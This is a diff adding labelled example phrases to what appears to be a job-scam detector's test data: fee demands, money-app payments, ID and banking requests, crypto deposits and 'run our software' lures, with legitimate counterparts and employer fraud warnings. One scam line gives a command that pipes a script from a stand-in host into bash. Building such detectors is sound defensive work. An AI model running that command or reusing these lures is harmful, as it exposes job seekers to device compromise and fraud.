@@ -23,6 +23,9 @@ POSITIVE = {
         "Complete the background check through our vendor site: choose the Basic Report ($39.95).",
         "Enrollment is only $199 this week and your placement is guaranteed.",
         "Before we send your contract, pay the documentation fee of USD 350 to our travel agent.",
+        "Selected! Pay the verification and medical fee of Rs 1,950 within 24 hours to confirm joining.",
+        "You're all set, just pay $40 for your uniform and name badge before Monday.",
+        "We just need the background check done first, $60 and you can start Monday.",
     ],
     "fake_check": [
         "The check covers your first week and the printer. Deposit it with your banking app today, then "
@@ -31,6 +34,7 @@ POSITIVE = {
     "wire_or_money_app": [
         "Sent $2,450 to the equipment vendor through Zelle yet?",
         "Please pay the $180 processing amount by PayPal friends and family.",
+        "Drug screen is $45 via Cash App to our compliance officer, send a screenshot after.",
         "Your first assignment is to evaluate the counter staff at a Western Union branch near you: buy a money "
         "order with the funds we give you and send a transfer to the evaluator named in your brief.",
     ],
@@ -55,6 +59,18 @@ POSITIVE = {
         "To accept, return the signed letter with your direct deposit details and a scan of a valid photo ID.",
         "Before the interview we verify identity: a selfie holding your driver's license, please.",
         "I need a copy of your passport for the client's vendor check.",
+        "Please send your CV, SIN and a void cheque to my personal address so I can add you to payroll.",
+    ],
+    "crypto_payment": [
+        "Your account is activated with a 100 USDT deposit. It is not a fee, it stays on your balance.",
+    ],
+    "task_job": [
+        "Complete 30 simple \"review tasks\" a day and earn commission on each one.",
+    ],
+    "run_their_software": [
+        "Download our partner app here: http://example.test/WorkApp_v2.apk (not available on Play Store).",
+        "If the camera fails, open Terminal and run: curl -s https://example.test/fix.sh | bash",
+        "Clone the repo, run npm install and npm start on your main machine (not a VM) and send us a recording.",
     ],
     "easy_money": [
         "Earn $1,800 weekly answering emails from home, no experience needed.",
@@ -77,6 +93,7 @@ NEGATIVE = {
         "Digital camera, 2x optical zoom, free shipping\n• Just $39",  # a shop newsletter's line
         "Get our new photo software. For a limited time, only $19.",
         "Your background check is paid by us; the drug test is at a clinic near you.",
+        "Fingerprinting: the processing fees are billed to the district, not to you.",
         "Your relocation costs are ours: we book and pay for the movers.",
     ],
     "fake_check": [
@@ -102,6 +119,13 @@ NEGATIVE = {
         "Please bring a copy of your passport on your first day for the I-9.",
         "Please do not send your bank account details by e-mail; enter them in Workday after your start date.",
     ],
+    "run_their_software": [
+        "Install the Authenticator app from the App Store before your first day.",
+        "Take-home exercise: a small repo; run npm install in a fresh container and open a pull request.",
+    ],
+    "crypto_payment": [
+        "Blockchain engineer: build USDC settlement for our crypto exchange (Rust).",
+    ],
     "easy_money": [
         "Travel nurse contract: $2,300 weekly, 36 hours per week, 13 weeks in Denver.",
         "Contract rate: day rate 450 GBP, on site in Leeds, 6 months.",
@@ -117,6 +141,9 @@ NEGATIVE = {
 
 # Employers' own fraud warnings list the very signs: the rules must read them as warnings.
 WARNINGS = [
+    "Please be aware that Acme will NEVER:\n- Conduct interviews over Telegram or WhatsApp\n- Ask you to pay for "
+    "equipment or starter kits\n- Send you a check and ask you to buy equipment from a vendor or send money back\n"
+    "- Ask for your bank details or photos of your ID before a formal offer\n",
     "Acme will never ask you to buy equipment, deposit a check, purchase gift cards, pay any fee, or interview "
     "over Telegram, WhatsApp or Signal.",
     "Fraudsters may pose as our recruiters, offer jobs without an interview and ask you to move the chat to "
